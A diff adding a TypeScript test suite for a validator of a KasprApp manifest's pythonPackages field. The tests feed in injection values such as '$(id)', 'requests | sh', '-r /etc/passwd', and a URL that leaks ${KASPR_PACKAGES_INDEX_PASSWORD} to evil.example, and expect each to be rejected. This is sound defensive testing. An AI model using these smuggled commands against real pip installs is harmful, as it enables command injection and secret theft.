@@ -1,0 +1,544 @@
+import { describe, test } from 'node:test';
+import assert from 'node:assert/strict';
+import { validateKasprApp } from '../../src/api/validation.ts';
+import type { FieldError } from '../../src/api/field-error.ts';
+
+type Manifest = {
+  apiVersion: string;
+  kind: string;
+  metadata: Record<string, unknown>;
+  spec: Record<string, unknown> & { pythonPackages: Record<string, unknown> };
+};
+
+const plainApp = (): Omit<Manifest, 'spec'> & { spec: Record<string, unknown> } => ({
+  apiVersion: 'kaspr.io/v1alpha1',
+  kind: 'KasprApp',
+  metadata: { name: 'orders', namespace: 'streams' },
+  spec: { bootstrapServers: 'kafka:9092', replicas: 2 },
+});
+
+const withPackages = (pythonPackages: Record<string, unknown> = { packages: ['requests==2.31.0'] }): Manifest => ({
+  ...plainApp(),
+  spec: { ...plainApp().spec, pythonPackages },
+});
+
+/** A KasprApp that uses every pythonPackages field. */
+const everyField = (): Manifest =>
+  withPackages({
+    packages: [
+      'requests[socks]>=2.28,<3',
+      'numpy~=1.26.0; python_version >= "3.9"',
+      'mypkg @ git+https://git.example.com/org/mypkg.git@v1.2',
+    ],
+    indexUrl: 'https://pypi.example.com/simple',
+    extraIndexUrls: ['https://mirror.example.com/simple', 'http://10.0.0.5:8080/simple'],
+    trustedHosts: ['10.0.0.5:8080', 'mirror.example.com'],
+    credentials: { secretRef: { name: 'pypi-credentials', usernameKey: 'user', passwordKey: 'token' } },
+    cache: { enabled: true, storageClass: 'nfs-client', size: '2Gi', accessMode: 'ReadWriteMany', deleteClaim: false },
+    installPolicy: { retries: 5, timeout: 900, onFailure: 'allow' },
+    resources: { requests: { cpu: '250m', memory: '512Mi' }, limits: { cpu: 1, memory: '2Gi' } },
+  });
+
+const errorsOf = (manifest: unknown): readonly FieldError[] => {
+  const result = validateKasprApp(manifest);
+  return result.ok ? [] : result.errors;
+};
+
+const pp = 'spec.pythonPackages';
+
+// Each case: a change to a valid manifest and exactly the errors it must produce.
+const invalidCases: [name: string, change: (m: Manifest) => void, expected: [path: string, message: string][]][] = [
+  ['empty package list', (m) => (m.spec.pythonPackages.packages = []), [[`${pp}.packages`, 'must not be empty']]],
+  ['packages missing', (m) => delete m.spec.pythonPackages.packages, [[`${pp}.packages`, 'is required']]],
+  [
+    'packages not a list',
+    (m) => (m.spec.pythonPackages.packages = 'requests'),
+    [[`${pp}.packages`, 'must be an array']],
+  ],
+  ['empty requirement', (m) => (m.spec.pythonPackages.packages = ['']), [[`${pp}.packages[0]`, 'must not be empty']]],
+  [
+    'non-string requirement',
+    (m) => (m.spec.pythonPackages.packages = [42]),
+    [[`${pp}.packages[0]`, 'must be a string']],
+  ],
+  [
+    'shell command after a marker separator',
+    (m) => (m.spec.pythonPackages.packages = ['requests; touch /tmp/x']),
+    [
+      [
+        `${pp}.packages[0]`,
+        `invalid requirement "requests; touch /tmp/x": expected a marker variable (such as python_version or sys_platform) or a quoted string at position 11, found 'touch /tmp/x'`,
+      ],
+    ],
+  ],
+  [
+    'command substitution',
+    (m) => (m.spec.pythonPackages.packages = ['$(id)']),
+    [
+      [
+        `${pp}.packages[0]`,
+        `invalid requirement "$(id)": expected a project name (letters, digits, '.', '_' and '-') at position 1, found '$(id)'`,
+      ],
+    ],
+  ],
+  [
+    'backticks',
+    (m) => (m.spec.pythonPackages.packages = ['`id`']),
+    [
+      [
+        `${pp}.packages[0]`,
+        "invalid requirement \"`id`\": expected a project name (letters, digits, '.', '_' and '-') at position 1, found '`id`'",
+      ],
+    ],
+  ],
+  [
+    'newline injection',
+    (m) => (m.spec.pythonPackages.packages = ['a==1\nb']),
+    [
+      [
+        `${pp}.packages[0]`,
+        'invalid requirement "a==1\\nb": must be a single line (found a line break); use one entry per requirement',
+      ],
+    ],
+  ],
+  [
+    'command chaining',
+    (m) => (m.spec.pythonPackages.packages = ['pkg && x']),
+    [
+      [
+        `${pp}.packages[0]`,
+        `invalid requirement "pkg && x": expected extras '[...]', a version specifier, '@ <url>' or '; <marker>' at position 5, found '&& x'`,
+      ],
+    ],
+  ],
+  [
+    'pipe',
+    (m) => (m.spec.pythonPackages.packages = ['requests | sh']),
+    [
+      [
+        `${pp}.packages[0]`,
+        `invalid requirement "requests | sh": expected extras '[...]', a version specifier, '@ <url>' or '; <marker>' at position 10, found '| sh'`,
+      ],
+    ],
+  ],
+  [
+    'pip option line',
+    (m) => (m.spec.pythonPackages.packages = ['-r /etc/passwd']),
+    [
+      [
+        `${pp}.packages[0]`,
+        'invalid requirement "-r /etc/passwd": pip options (such as -r, -e or --index-url) are not allowed; use the pythonPackages fields instead',
+      ],
+    ],
+  ],
+  [
+    'index override as a requirement',
+    (m) => (m.spec.pythonPackages.packages = ['--extra-index-url=http://evil.example/simple']),
+    [
+      [
+        `${pp}.packages[0]`,
+        'invalid requirement "--extra-index-url=http://evil.example/simple": pip options (such as -r, -e or --index-url) are not allowed; use the pythonPackages fields instead',
+      ],
+    ],
+  ],
+  [
+    'bad version',
+    (m) => (m.spec.pythonPackages.packages = ['requests==latest']),
+    [[`${pp}.packages[0]`, `invalid requirement "requests==latest": '==latest': not a valid PEP 440 version`]],
+  ],
+  [
+    'single equals',
+    (m) => (m.spec.pythonPackages.packages = ['requests=2.0']),
+    [
+      [
+        `${pp}.packages[0]`,
+        'invalid requirement "requests=2.0": expected a version operator (=== == != <= >= ~= < >) at position 9, found \'=2.0\'',
+      ],
+    ],
+  ],
+  [
+    'unknown marker variable',
+    (m) => (m.spec.pythonPackages.packages = ['requests; os == "linux"']),
+    [
+      [
+        `${pp}.packages[0]`,
+        `invalid requirement "requests; os == \\"linux\\"": expected a marker variable (such as python_version or sys_platform) or a quoted string at position 11, found 'os == "linux'`,
+      ],
+    ],
+  ],
+  [
+    'substitution inside a marker string',
+    (m) => (m.spec.pythonPackages.packages = ['requests; python_version == "$(id)"']),
+    [
+      [
+        `${pp}.packages[0]`,
+        'invalid requirement "requests; python_version == \\"$(id)\\"": marker string "$(id)" may contain only letters, digits, spaces and . _ - * + ! ~ :',
+      ],
+    ],
+  ],
+  [
+    'file URL requirement',
+    (m) => (m.spec.pythonPackages.packages = ['pkg @ file:///etc/passwd']),
+    [
+      [
+        `${pp}.packages[0]`,
+        `invalid requirement "pkg @ file:///etc/passwd": URL must use http, https or a VCS scheme such as git+https, not 'file'`,
+      ],
+    ],
+  ],
+  [
+    'credentials in a requirement URL',
+    (m) => (m.spec.pythonPackages.packages = ['pkg @ https://u:p@files.example.com/pkg-1.0.tar.gz']),
+    [
+      [
+        `${pp}.packages[0]`,
+        'invalid requirement "pkg @ https://u:p@files.example.com/pkg-1.0.tar.gz": URL must not embed credentials; put them in a Secret and reference it with pythonPackages.credentials.secretRef',
+      ],
+    ],
+  ],
+  [
+    'environment expansion in a URL',
+    (m) => (m.spec.pythonPackages.packages = ['pkg @ https://evil.example/${KASPR_PACKAGES_INDEX_PASSWORD}.whl']),
+    [
+      [
+        `${pp}.packages[0]`,
+        `invalid requirement "pkg @ https://evil.example/\${KASPR_PACKAGES_INDEX_PASSWORD}.whl": URL must not contain '$' (pip expands \${...} references)`,
+      ],
+    ],
+  ],
+  [
+    'VCS URL without a project name',
+    (m) => (m.spec.pythonPackages.packages = ['git+https://git.example.com/org/repo.git@v1']),
+    [
+      [
+        `${pp}.packages[0]`,
+        `invalid requirement "git+https://git.example.com/org/repo.git@v1": a VCS URL needs '#egg=<project>' to name the project, or write 'name @ <url>'`,
+      ],
+    ],
+  ],
+  [
+    'duplicate project (PEP 503 names)',
+    (m) => (m.spec.pythonPackages.packages = ['typing_extensions', 'Typing.Extensions>=4']),
+    [
+      [
+        `${pp}.packages[1]`,
+        "duplicate requirement for project 'typing-extensions' (also packages[0]); combine the version specifiers into one entry",
+      ],
+    ],
+  ],
+  [
+    'every bad requirement reported at once',
+    (m) => (m.spec.pythonPackages.packages = ['ok-pkg', '$(id)', 'requests==']),
+    [
+      [
+        `${pp}.packages[1]`,
+        `invalid requirement "$(id)": expected a project name (letters, digits, '.', '_' and '-') at position 1, found '$(id)'`,
+      ],
+      [
+        `${pp}.packages[2]`,
+        `invalid requirement "requests==": expected a version after '==' at position 11, found the end`,
+      ],
+    ],
+  ],
+  [
+    'index URL with user:pass@',
+    (m) => (m.spec.pythonPackages.indexUrl = 'https://user:pass@pypi.example.com/simple'),
+    [
+      [
+        `${pp}.indexUrl`,
+        'URL must not embed credentials; put them in a Secret and reference it with pythonPackages.credentials.secretRef',
+      ],
+    ],
+  ],
+  [
+    'index URL file:///',
+    (m) => (m.spec.pythonPackages.indexUrl = 'file:///srv/pypi'),
+    [[`${pp}.indexUrl`, "URL must use http or https, not 'file'"]],
+  ],
+  [
+    'index URL ftp',
+    (m) => (m.spec.pythonPackages.indexUrl = 'ftp://pypi.example.com/simple'),
+    [[`${pp}.indexUrl`, "URL must use http or https, not 'ftp'"]],
+  ],
+  [
+    'index URL git+https',
+    (m) => (m.spec.pythonPackages.indexUrl = 'git+https://pypi.example.com/simple'),
+    [[`${pp}.indexUrl`, "URL must use http or https, not 'git+https'"]],
+  ],
+  [
+    'index URL relative',
+    (m) => (m.spec.pythonPackages.indexUrl = '/simple'),
+    [[`${pp}.indexUrl`, "URL '/simple' is not a valid absolute URL"]],
+  ],
+  [
+    'index URL with spaces',
+    (m) => (m.spec.pythonPackages.indexUrl = 'https://pypi.example.com/simple --trusted-host evil'),
+    [[`${pp}.indexUrl`, 'URL contains characters that are not allowed in a URL (spaces, quotes, braces, backslashes)']],
+  ],
+  [
+    'index URL with ${VAR}',
+    (m) => (m.spec.pythonPackages.indexUrl = 'https://pypi.example.com/${HOME}/simple'),
+    [[`${pp}.indexUrl`, "URL must not contain '$' (pip expands ${...} references)"]],
+  ],
+  ['index URL not a string', (m) => (m.spec.pythonPackages.indexUrl = 5), [[`${pp}.indexUrl`, 'must be a string']]],
+  [
+    'extra index URL with credentials',
+    (m) =>
+      (m.spec.pythonPackages.extraIndexUrls = [
+        'https://mirror.example.com/simple',
+        'http://u:p@mirror2.example.com/simple',
+      ]),
+    [
+      [
+        `${pp}.extraIndexUrls[1]`,
+        'URL must not embed credentials; put them in a Secret and reference it with pythonPackages.credentials.secretRef',
+      ],
+    ],
+  ],
+  [
+    'extra index URL file:',
+    (m) => (m.spec.pythonPackages.extraIndexUrls = ['file:///wheels']),
+    [[`${pp}.extraIndexUrls[0]`, "URL must use http or https, not 'file'"]],
+  ],
+  [
+    'trusted host with a path',
+    (m) => (m.spec.pythonPackages.trustedHosts = ['pypi.example.com/simple']),
+    [
+      [
+        `${pp}.trustedHosts[0]`,
+        'must be a host name or IP address, optionally with :port (no scheme, path or credentials)',
+      ],
+    ],
+  ],
+  [
+    'trusted host with a scheme',
+    (m) => (m.spec.pythonPackages.trustedHosts = ['https://pypi.example.com']),
+    [
+      [
+        `${pp}.trustedHosts[0]`,
+        'must be a host name or IP address, optionally with :port (no scheme, path or credentials)',
+      ],
+    ],
+  ],
+  [
+    'trusted host port out of range',
+    (m) => (m.spec.pythonPackages.trustedHosts = ['pypi.example.com:99999']),
+    [[`${pp}.trustedHosts[0]`, 'port 99999 is out of range']],
+  ],
+  [
+    'trusted host with a shell word',
+    (m) => (m.spec.pythonPackages.trustedHosts = ['host;id']),
+    [
+      [
+        `${pp}.trustedHosts[0]`,
+        'must be a host name or IP address, optionally with :port (no scheme, path or credentials)',
+      ],
+    ],
+  ],
+  [
+    'credentials without indexUrl',
+    (m) => (m.spec.pythonPackages.credentials = { secretRef: { name: 'pypi' } }),
+    [[`${pp}.credentials`, 'requires indexUrl: the credentials are only ever sent to indexUrl']],
+  ],
+  [
+    'credentials secretRef without a name',
+    (m) => {
+      m.spec.pythonPackages.indexUrl = 'https://pypi.example.com/simple';
+      m.spec.pythonPackages.credentials = { secretRef: {} };
+    },
+    [[`${pp}.credentials.secretRef.name`, 'is required']],
+  ],
+  [
+    'cache size 5Gx',
+    (m) => (m.spec.pythonPackages.cache = { size: '5Gx' }),
+    [[`${pp}.cache.size`, 'must be a Kubernetes quantity such as 256Mi, 1Gi, 500m or 2']],
+  ],
+  [
+    'cache size zero',
+    (m) => (m.spec.pythonPackages.cache = { size: '0Mi' }),
+    [[`${pp}.cache.size`, 'must be greater than zero']],
+  ],
+  [
+    'cache size negative',
+    (m) => (m.spec.pythonPackages.cache = { size: '-1Gi' }),
+    [[`${pp}.cache.size`, 'must be greater than zero']],
+  ],
+  [
+    'cache size boolean',
+    (m) => (m.spec.pythonPackages.cache = { size: true }),
+    [[`${pp}.cache.size`, 'must be an integer or a string']],
+  ],
+  [
+    'cache access mode ReadOnlyMany',
+    (m) => (m.spec.pythonPackages.cache = { accessMode: 'ReadOnlyMany' }),
+    [[`${pp}.cache.accessMode`, 'must be one of: ReadWriteMany, ReadWriteOnce']],
+  ],
+  [
+    'cache enabled "yes"',
+    (m) => (m.spec.pythonPackages.cache = { enabled: 'yes' }),
+    [[`${pp}.cache.enabled`, 'must be a boolean']],
+  ],
+  [
+    'cache deleteClaim "no"',
+    (m) => (m.spec.pythonPackages.cache = { deleteClaim: 'no' }),
+    [[`${pp}.cache.deleteClaim`, 'must be a boolean']],
+  ],
+  [
+    'retries -1',
+    (m) => (m.spec.pythonPackages.installPolicy = { retries: -1 }),
+    [[`${pp}.installPolicy.retries`, 'must be at least 0']],
+  ],
+  [
+    'retries 1.5',
+    (m) => (m.spec.pythonPackages.installPolicy = { retries: 1.5 }),
+    [[`${pp}.installPolicy.retries`, 'must be an integer']],
+  ],
+  [
+    'retries 100',
+    (m) => (m.spec.pythonPackages.installPolicy = { retries: 100 }),
+    [[`${pp}.installPolicy.retries`, 'must be at most 10']],
+  ],
+  [
+    'timeout 30',
+    (m) => (m.spec.pythonPackages.installPolicy = { timeout: 30 }),
+    [[`${pp}.installPolicy.timeout`, 'must be at least 60']],
+  ],
+  [
+    'timeout "10m"',
+    (m) => (m.spec.pythonPackages.installPolicy = { timeout: '10m' }),
+    [[`${pp}.installPolicy.timeout`, 'must be an integer']],
+  ],
+  [
+    'onFailure warn',
+    (m) => (m.spec.pythonPackages.installPolicy = { onFailure: 'warn' }),
+    [[`${pp}.installPolicy.onFailure`, 'must be one of: block, allow']],
+  ],
+  [
+    'all install policy errors at once',
+    (m) => (m.spec.pythonPackages.installPolicy = { retries: -1, timeout: 30, onFailure: 'warn' }),
+    [
+      [`${pp}.installPolicy.retries`, 'must be at least 0'],
+      [`${pp}.installPolicy.timeout`, 'must be at least 60'],
+      [`${pp}.installPolicy.onFailure`, 'must be one of: block, allow'],
+    ],
+  ],
+  [
+    'resources: not a quantity',
+    (m) => (m.spec.pythonPackages.resources = { limits: { cpu: 'lots' } }),
+    [[`${pp}.resources.limits.cpu`, 'must be a Kubernetes quantity such as 256Mi, 1Gi, 500m or 2']],
+  ],
+  [
+    'resources: request above limit',
+    (m) => (m.spec.pythonPackages.resources = { requests: { memory: '2Gi' }, limits: { memory: '1Gi' } }),
+    [[`${pp}.resources.requests.memory`, '2Gi exceeds the limit 1Gi']],
+  ],
+  [
+    'unknown field with a suggestion',
+    (m) => (m.spec.pythonPackages.extraIndexUrl = ['https://mirror.example.com/simple']),
+    [[`${pp}.extraIndexUrl`, "unknown field; did you mean 'extraIndexUrls'?"]],
+  ],
+  [
+    'unknown nested field',
+    (m) => (m.spec.pythonPackages.cache = { sise: '1Gi' }),
+    [[`${pp}.cache.sise`, "unknown field; did you mean 'size'?"]],
+  ],
+  [
+    'pythonPackages not an object',
+    (m) => (m.spec.pythonPackages = ['requests'] as unknown as Record<string, unknown>),
+    [[pp, 'must be an object']],
+  ],
+];
+
+describe('validateKasprApp', () => {
+  test('a KasprApp without pythonPackages validates', () => {
+    const result = validateKasprApp(plainApp());
+    assert.ok(result.ok, JSON.stringify(result));
+    assert.deepEqual(result.warnings, []);
+  });
+
+  test('a KasprApp with every pythonPackages field validates', () => {
+    const result = validateKasprApp(everyField());
+    assert.ok(result.ok, JSON.stringify(result));
+  });
+
+  test(`${invalidCases.length} invalid pythonPackages inputs, each with its message`, () => {
+    assert.ok(invalidCases.length >= 40);
+  });
+
+  for (const [name, change, expected] of invalidCases) {
+    test(`rejects: ${name}`, () => {
+      const manifest = withPackages();
+      change(manifest);
+      assert.deepEqual(
+        errorsOf(manifest).map((e) => [e.path, e.message]),
+        expected,
+      );
+    });
+  }
+
+  test('reports errors across the whole object at once', () => {
+    const manifest = everyField();
+    manifest.metadata.name = 'Orders_App';
+    manifest.spec.replicas = -1;
+    manifest.spec.pythonPackages.installPolicy = { timeout: 1 };
+    manifest.spec.pythonPackages.packages = ['x; y'];
+    assert.deepEqual(
+      errorsOf(manifest).map((e) => e.path),
+      ['metadata.name', 'spec.replicas', `${pp}.installPolicy.timeout`, `${pp}.packages[0]`],
+    );
+  });
+
+  test('the app name must fit the names derived from it', () => {
+    const manifest = plainApp();
+    manifest.metadata.name = 'a'.repeat(49);
+    assert.deepEqual(errorsOf(manifest), [
+      { path: 'metadata.name', message: 'must be at most 48 characters (child names and labels derive from it)' },
+    ]);
+  });
+
+  test('an unknown spec field is kept (original manifests apply) but warned about', () => {
+    const manifest = {
+      ...plainApp(),
+      spec: { ...plainApp().spec, pythonPackage: { packages: ['x'] }, legacyField: 1 },
+    };
+    const result = validateKasprApp(manifest);
+    assert.ok(result.ok);
+    assert.deepEqual(result.warnings, [
+      { path: 'spec.pythonPackage', message: "unknown field, ignored; did you mean 'pythonPackages'?" },
+      { path: 'spec.legacyField', message: 'unknown field, ignored' },
+    ]);
+  });
+
+  test('persistent storage needs a size; an unknown version needs an image', () => {
+    const manifest = {
+      ...plainApp(),
+      spec: { ...plainApp().spec, storage: { type: 'persistent-claim' }, version: '0.0.1' },
+    };
+    assert.deepEqual(
+      errorsOf(manifest).map((e) => e.path),
+      ['spec.version', 'spec.storage.size'],
+    );
+    const withImage = {
+      ...manifest,
+      spec: {
+        ...manifest.spec,
+        image: 'registry.example.com/kaspr:custom',
+        storage: { type: 'persistent-claim', size: '1Gi' },
+      },
+    };
+    assert.ok(validateKasprApp(withImage).ok);
+  });
+
+  test('wrong envelope', () => {
+    assert.deepEqual(
+      errorsOf({ apiVersion: 'v1', kind: 'ConfigMap', metadata: {} }).map((e) => `${e.path}: ${e.message}`),
+      [
+        'apiVersion: must be kaspr.io/v1alpha1',
+        'kind: must be KasprApp',
+        'metadata.name: is required',
+        'spec: is required',
+      ],
+    );
+    assert.deepEqual(errorsOf('hello'), [{ path: '(document)', message: 'must be a mapping (a KasprApp object)' }]);
+  });
+});
